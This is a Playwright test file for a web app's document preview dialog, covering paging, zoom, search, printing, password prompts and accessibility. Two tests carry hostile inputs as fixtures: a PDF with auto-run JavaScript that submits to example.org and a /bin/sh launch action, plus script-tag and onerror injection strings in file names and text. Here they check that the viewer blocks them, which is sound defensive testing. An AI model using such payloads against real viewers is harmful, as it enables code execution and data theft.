import type { Page } from '@playwright/test'
import { expectAccessibleAt } from './axe.ts'
import { attach, buildDocument, buildPdf, prose, serveDocuments } from './documents.ts'
import { expect, failedWith, test } from './test.ts'
import { walk } from './walk.ts'

const dialog = (page: Page) => page.getByRole('dialog')
const pages = (page: Page) => dialog(page).locator('[data-page]')
const drawn = (page: Page) => dialog(page).locator('[data-page] canvas')
const pane = (page: Page) => dialog(page).getByRole('group', { name: /^(Pages|Text) of/ })
const number = (page: Page) => dialog(page).getByLabel(/^Page of/)

/** The texts that carry a mark, in their order. */
function marked(page: Page, mark: string): Promise<string[]> {
  return page.evaluate((name) => {
    const ranges = [...(CSS.highlights.get(name) ?? [])] as Range[]
    return ranges.map((range) => String(range))
  }, mark)
}

test('a stored PDF opens at the page of the address, is read page by page, and is there again after a reload', async ({
  asUser: page,
  office,
}) => {
  const user = await office.signIn('user')
  const request = await office.createRequest(user)
  const content = await buildPdf(Array.from({ length: 30 }, (_, i) => prose(i + 1)))
  const [document] = await attach(office.url, user.token, request.id, { 'Minutes of May.pdf': content })
  await page.goto(`/requests?request=${request.id}&tab=documents&document=${document!.id}&documentPage=3`)
  await expect(dialog(page).getByRole('heading', { name: 'Minutes of May.pdf' })).toBeVisible()
  await expect(pages(page)).toHaveCount(30)
  await expect(dialog(page).getByRole('region', { name: 'Page 3 of 30' })).toContainText('3.1 The office of exit')
  await expect(number(page)).toHaveValue('3')

  await dialog(page).getByRole('button', { name: 'Next page' }).click()
  await expect(number(page)).toHaveValue('4')
  await number(page).fill('17')
  await number(page).press('Enter')
  await expect(dialog(page).getByRole('region', { name: 'Page 17 of 30' })).toContainText('17.24 The office')
  await expect(page).toHaveURL(/documentPage=17/)
  await page.reload()
  await expect(number(page)).toHaveValue('17')
  await expect(dialog(page).getByRole('region', { name: 'Page 17 of 30' })).toBeInViewport()

  await page.keyboard.press('Escape')
  await expect(dialog(page).getByRole('heading', { name: request.title })).toBeVisible()
  await expect(dialog(page).getByRole('tab', { name: 'Documents' })).toHaveAttribute('aria-selected', 'true')
})

test('the keys move and zoom in a document as soon as it is drawn', async ({ asUser: page }) => {
  await serveDocuments(page, [{ ...buildDocument(), content: await buildPdf([prose(1), prose(2), prose(3)]) }])
  await page.goto('/requests?document=doc-1')
  await expect(drawn(page).first()).toBeVisible()
  await expect(pane(page)).toBeFocused()
  await page.keyboard.press('End')
  await expect(number(page)).toHaveValue('3')
  await page.keyboard.press('Home')
  await expect(number(page)).toHaveValue('1')
  await page.keyboard.press('PageDown')
  await expect.poll(() => pane(page).evaluate((box) => box.scrollTop)).toBeGreaterThan(100)

  const percent = async () =>
    Number(
      (
        await dialog(page)
          .getByText(/^\d+%$/)
          .textContent()
      )?.slice(0, -1),
    )
  const wide = await percent()
  await page.keyboard.press('+')
  await expect.poll(percent).toBeGreaterThan(wide)
  await page.keyboard.press('-')
  await page.keyboard.press('-')
  await expect.poll(percent).toBeLessThan(wide)
  await page.keyboard.press('0')
  await expect.poll(percent).toBe(wide)
  await pane(page).hover()
  await page.keyboard.down('Control')
  await page.mouse.wheel(0, -200)
  await page.keyboard.up('Control')
  await expect.poll(percent).toBeGreaterThan(wide)
  await dialog(page).getByRole('button', { name: 'Fit width' }).click()
  await dialog(page).getByRole('button', { name: 'Fit page' }).click()
  const sheet = await pages(page).first().boundingBox()
  expect(sheet!.height).toBeLessThanOrEqual((await pane(page).boundingBox())!.height)
})

test('only the pages near the view are drawn, and what was drawn is given back', async ({ asUser: page }) => {
  const content = await buildPdf(Array.from({ length: 120 }, (_, i) => prose(i + 1)))
  await serveDocuments(page, [{ ...buildDocument(), content }])
  await page.goto('/requests?document=doc-1')
  await expect(drawn(page).first()).toBeVisible()
  for (const to of [40, 80, 120]) {
    await number(page).fill(String(to))
    await number(page).press('Enter')
    await expect(
      pages(page)
        .nth(to - 1)
        .locator('canvas'),
    ).toBeVisible()
  }
  expect(await drawn(page).count()).toBeLessThanOrEqual(4)
  await expect(pages(page)).toHaveCount(120)
})

test('words are found in all pages, counted, and marked where they stand', async ({ asUser: page }) => {
  const texts = ['Nothing here', 'Die Größe der Siegel', 'GROSSE Siegel, große\nSiegel', 'Ende']
  await serveDocuments(page, [{ ...buildDocument(), content: await buildPdf(texts) }])
  await page.goto('/requests?document=doc-1')
  await expect(drawn(page).first()).toBeVisible()
  await page.keyboard.press('Control+f')
  const field = dialog(page).getByRole('searchbox', { name: 'Search in document' })
  await expect(field).toBeFocused()
  await field.fill('grosse')
  await expect(dialog(page).getByRole('search')).toContainText('1 of 3')
  await expect(number(page)).toHaveValue('2')
  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['Größe'])
  await field.press('Enter')
  await expect(dialog(page).getByRole('search')).toContainText('2 of 3')
  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['GROSSE'])
  await field.press('Shift+Enter')
  await field.press('Shift+Enter')
  await expect(dialog(page).getByRole('search')).toContainText('3 of 3')
  await field.fill('nowhere at all')
  await expect(dialog(page).getByRole('search')).toContainText('Not found')
  await expect.poll(() => marked(page, 'document-hit')).toEqual([])
  // Escape empties the field before it closes anything.
  await field.press('Escape')
  await expect(field).toHaveValue('')
  await expect(dialog(page)).toBeVisible()
})

test('a hit of the search opens the document at its page with the words marked', async ({ asUser: page }) => {
  const content = await buildPdf([prose(1), 'The seal is scanned', prose(3)])
  await serveDocuments(page, [{ ...buildDocument(), content }])
  await page.goto('/requests?document=doc-1&documentPage=2&find=seal')
  await expect(dialog(page).getByRole('region', { name: 'Page 2 of 3' })).toBeInViewport()
  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['seal'])
  await expect(number(page)).toHaveValue('2')
})

test('the text of a page can be selected and copied, on a turned page, too', async ({ asUser: page }) => {
  const plain = await buildPdf(['The portal should show the remaining quantity'])
  const turned = Buffer.from(plain.toString('latin1').replace('/Type /Page\n', '/Type /Page\n/Rotate 90\n'), 'latin1')
  await serveDocuments(page, [
    { ...buildDocument(), content: plain },
    { ...buildDocument({ id: 'doc-2', name: 'Turned.pdf' }), content: turned },
  ])
  for (const id of ['doc-1', 'doc-2']) {
    await page.goto(`/requests?document=${id}`)
    const line = dialog(page).getByText('The portal should show')
    await line.dblclick({ position: id === 'doc-1' ? { x: 60, y: 8 } : { x: 8, y: 60 } })
    const selected = await page.evaluate(() => String(getSelection()))
    expect(selected.trim().length).toBeGreaterThan(2)
    expect('The portal should show the remaining quantity').toContain(selected.trim())
    const { width, height } = (await line.boundingBox())!
    expect(width > height, id).toBe(id === 'doc-1')
  }
})

test('what a PDF carries beside its pages never runs, and nothing outside is asked for', async ({ asUser: page }) => {
  const content = await buildPdf(['Harmless words'], {
    add: (pdf) => {
      const attack = "app.alert('ran'); window.ran = true; this.submitForm('https://example.org/x')"
      const root = (pdf as unknown as { _root: { data: Record<string, unknown> } })._root.data
      const action = pdf.ref({ S: 'JavaScript', JS: new String(attack) })
      action.end('')
      root['OpenAction'] = action
      root['AA'] = { WC: { S: 'Launch', F: new String('/bin/sh') } }
      pdf.link(60, 60, 300, 40, 'https://example.org/clicked')
      pdf.file(Buffer.from('<script>window.ran = true</script>'), { name: 'run.html' })
    },
  })
  expect(content.toString('latin1')).toMatch(/JavaScript[^]*Launch|Launch[^]*JavaScript/)
  await serveDocuments(page, [{ ...buildDocument({ name: '<img src=x onerror="window.ran=true">.pdf' }), content }])
  const outside: string[] = []
  page.on('request', (asked) => {
    if (!asked.url().startsWith('blob:') && new URL(asked.url()).hostname !== '127.0.0.1') outside.push(asked.url())
  })
  page.on('dialog', (shown) => outside.push(`dialog ${shown.message()}`))
  page.on('popup', (opened) => outside.push(`popup ${opened.url()}`))
  await page.goto('/requests?document=doc-1')
  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('Harmless words')
  await pages(page)
    .first()
    .click({ position: { x: 150, y: 100 } })
  await expect(dialog(page).getByRole('heading', { name: '<img src=x' })).toBeVisible()
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  expect(outside).toEqual([])
})

test('a document of text is paragraphs, headings and their direction, and its words are never markup', async ({
  asUser: page,
}) => {
  const text = [
    'Guarantees in transit',
    'The group reviewed <script>window.ran = true</script> and <b>nothing else</b>.',
    'يجب أن يُطبع رقم الضمان على كل مستند عبور.',
  ].join('\n')
  await serveDocuments(page, [
    { ...buildDocument({ name: 'Letter.docx', type: 'docx' }), pages: [{ number: 1, text }] },
  ])
  await page.goto('/requests?document=doc-1')
  await expect(dialog(page).getByRole('heading', { name: 'Guarantees in transit' })).toBeVisible()
  await expect(dialog(page).getByText('<script>window.ran = true</script> and <b>nothing else</b>.')).toBeVisible()
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  await expect(dialog(page).getByText(/^يجب/)).toHaveCSS('direction', 'rtl')
  await dialog(page).getByRole('searchbox', { name: 'Search in document' }).fill('reviewed')
  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['reviewed'])
})

test('a PDF is shown as text for those who read by ear, and as pages again', async ({ asUser: page }) => {
  await serveDocuments(page, [
    {
      ...buildDocument(),
      content: await buildPdf(['First', 'Second']),
      pages: [
        { number: 1, text: 'First, as text.' },
        { number: 2, text: 'Second, as text.' },
      ],
    },
  ])
  await page.goto('/requests?document=doc-1&documentPage=2')
  await dialog(page).getByRole('button', { name: 'Show as text' }).click()
  await expect(dialog(page).getByRole('region', { name: 'Page 2 of 2' })).toContainText('Second, as text.')
  await dialog(page).getByRole('button', { name: 'Show as pages' }).click()
  await expect(drawn(page).first()).toBeVisible()
})

test('a protected PDF asks for its password, which is stored nowhere', async ({ asUser: page }) => {
  const content = await buildPdf(['A page behind a password'], { userPassword: 'sesame', pdfVersion: '1.7' })
  await serveDocuments(page, [{ ...buildDocument(), content }])
  await page.goto('/requests?document=doc-1')
  const field = dialog(page).getByLabel('Password of the document')
  await expect(field).toBeFocused()
  await field.fill('wrong')
  await field.press('Enter')
  await expect(dialog(page).getByText('This password does not open the document')).toBeVisible()
  await expect(field).toBeFocused()
  await dialog(page).getByRole('button', { name: 'Cancel' }).click()
  await dialog(page).getByRole('button', { name: 'Enter the password' }).click()
  await field.fill('sesame')
  await dialog(page).getByRole('button', { name: 'Open' }).click()
  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('A page behind a password')
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href]))
  expect(kept).not.toContain('sesame')
})

test('what cannot be shown says why and what to do', async ({ asUser: page, expected }) => {
  expected.push(failedWith(404), /ERR_FAILED/)
  await serveDocuments(page, [
    {
      ...buildDocument({ id: 'damaged' }),
      content: Buffer.from('%PDF-1.7\nnothing of it'),
      pages: [{ number: 1, text: 'Its words' }],
    },
    buildDocument({ id: 'gone' }),
    buildDocument({ id: 'scan', type: 'docx', text: { state: 'none', pages: null, note: null } }),
    { ...buildDocument({ id: 'lost' }), content: await buildPdf(['Here again']) },
  ])
  await page.goto('/requests?document=damaged')
  await expect(dialog(page).getByText('This PDF cannot be shown here')).toBeVisible()
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    dialog(page).getByRole('button', { name: 'Download' }).last().click(),
  ])
  expect(file.suggestedFilename()).toBe('Minutes of the transit working group.pdf')
  await dialog(page).getByRole('button', { name: 'Show as text' }).first().click()
  await expect(dialog(page).getByText('Its words')).toBeVisible()

  await page.goto('/requests?document=gone')
  await expect(dialog(page).getByText('This document is no longer there')).toBeVisible()
  await page.goto('/requests?document=scan')
  await expect(dialog(page).getByText('This DOCX has no text')).toBeVisible()

  let isLost = true
  await page.route('**/api/documents/lost/content', (route) => (isLost ? route.abort() : route.fallback()))
  await page.goto('/requests?document=lost')
  await expect(dialog(page).getByText('The document could not be loaded')).toBeVisible()
  isLost = false
  await dialog(page).getByRole('button', { name: 'Try again' }).click()
  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('Here again')
})

test('the documents of a request are gone through one after the other, and the focus stays', async ({
  asUser: page,
}) => {
  await serveDocuments(page, [
    { ...buildDocument({ name: 'One.pdf' }), content: await buildPdf(['Page of one']) },
    {
      ...buildDocument({ id: 'doc-2', name: 'Two.docx', type: 'docx' }),
      pages: [{ number: 1, text: 'Words of two.' }],
    },
  ])
  await page.goto('/requests?document=doc-1')
  await expect(dialog(page).getByRole('button', { name: 'Previous document' })).toBeDisabled()
  await dialog(page).getByRole('button', { name: 'Next document' }).click()
  await expect(dialog(page).getByText('Words of two.')).toBeVisible()
  await expect(dialog(page).getByRole('button', { name: 'Previous document' })).toBeFocused()
  await expect(page).toHaveURL(/document=doc-2/)
})

test('a picture is shown as large as the pane, and zoomed', async ({ asUser: page }) => {
  const picture = await page.evaluate(() => {
    const canvas = Object.assign(document.createElement('canvas'), { width: 600, height: 300 })
    return canvas.toDataURL('image/png').split(',')[1]!
  })
  await serveDocuments(page, [
    { ...buildDocument({ name: 'Seal.png', type: 'png' }), content: Buffer.from(picture, 'base64') },
  ])
  await page.goto('/requests?document=doc-1')
  const shown = dialog(page).getByRole('img', { name: 'Seal.png' })
  await expect(shown).toBeVisible()
  const before = (await shown.boundingBox())!.width
  await dialog(page).getByRole('button', { name: 'Zoom in' }).click()
  await expect.poll(async () => (await shown.boundingBox())!.width).toBeGreaterThan(before)
})

test('a PDF prints each of its pages in its own size, and a text prints as text', async ({ asUser: page }) => {
  await page.addInitScript(() => {
    window.print = () => document.documentElement.setAttribute('data-printed', '')
  })
  await serveDocuments(page, [
    {
      ...buildDocument(),
      content: await buildPdf(['One', 'Two', 'Three'], { layout: 'landscape', size: 'A5' }),
    },
    { ...buildDocument({ id: 'doc-2', type: 'docx' }), pages: [{ number: 1, text: 'Words on paper.' }] },
  ])
  const sheet = page.locator('body > [data-sheet]')
  const printed = page.locator('[data-printed]')
  await page.goto('/requests?document=doc-1')
  await expect(drawn(page).first()).toBeVisible()
  await page.keyboard.press('Control+p')
  await expect(printed).toHaveCount(1)
  await expect(sheet.locator('img')).toHaveCount(3)
  const wide = await sheet
    .locator('img')
    .first()
    .evaluate((image) => (image as HTMLImageElement).naturalWidth)
  // A5 is 8.27 inches wide when it lies: 200 dots to each.
  expect(wide).toBeGreaterThan(1600)
  const paper = (await page.pdf({ preferCSSPageSize: true })).toString('latin1')
  expect(paper.match(/\/Type\s*\/Page\b/g)).toHaveLength(3)
  expect(paper).toMatch(/\/MediaBox\s*\[0 0 59\d[.\d]* 4[12]\d/)
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')))
  await expect(sheet).toHaveCount(0)

  await page.goto('/requests?document=doc-2')
  await expect(dialog(page).getByText('Words on paper.')).toBeVisible()
  await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')))
  await page.emulateMedia({ media: 'print' })
  await expect(sheet.getByText('Words on paper.')).toBeVisible()
  await expect(dialog(page)).toBeHidden()
})

test('Tab goes through the preview and comes round', async ({ asUser: page }) => {
  await serveDocuments(page, [
    { ...buildDocument(), content: await buildPdf([prose(1), prose(2)]) },
    buildDocument({ id: 'doc-2' }),
  ])
  await page.goto('/requests?document=doc-1')
  await expect(pane(page)).toBeFocused()
  const stops = [
    'button Next document',
    'button Download',
    'button Close',
    'textbox Page of',
    'button Previous page',
    'button Next page',
    'button Zoom out',
    'button Zoom in',
    'button Fit page',
    'searchbox Search in document',
    'button Previous hit',
    'button Next hit',
    'button Show as text',
    'button Print',
    'group Pages of Minutes of the transit working group.pdf',
  ]
  const there = await walk(page, 'Tab')
  expect(there).toEqual(stops)
  expect((await walk(page, 'Shift+Tab')).toReversed()).toEqual(there)
})

test('the preview is accessible in every width and both themes', async ({ asUser: page }) => {
  test.slow()
  await serveDocuments(page, [
    { ...buildDocument(), content: await buildPdf([prose(1), prose(2)]) },
    buildDocument({ id: 'doc-2' }),
  ])
  await page.goto('/requests?document=doc-1&find=seal')
  await expect(drawn(page).first()).toBeVisible()
  await expect(dialog(page).getByRole('search')).toContainText('1 of')
  await expectAccessibleAt(page, 1440, 1366, 1024, 820, 390)
})

test('the text of a PDF and what is said of a damaged one are accessible', async ({ asUser: page }) => {
  await serveDocuments(page, [
    { ...buildDocument(), content: await buildPdf([prose(1)]), pages: [{ number: 1, text: prose(1) }] },
    { ...buildDocument({ id: 'doc-2' }), content: Buffer.from('%PDF-1.7 damaged') },
  ])
  await page.goto('/requests?document=doc-1')
  await dialog(page).getByRole('button', { name: 'Show as text' }).click()
  await expect(dialog(page).getByRole('region', { name: 'Text' })).toBeVisible()
  await expectAccessibleAt(page, 1440, 390)
  await page.goto('/requests?document=doc-2')
  await expect(dialog(page).getByText('This PDF cannot be shown here')).toBeVisible()
  await expectAccessibleAt(page, 1440, 390)
})
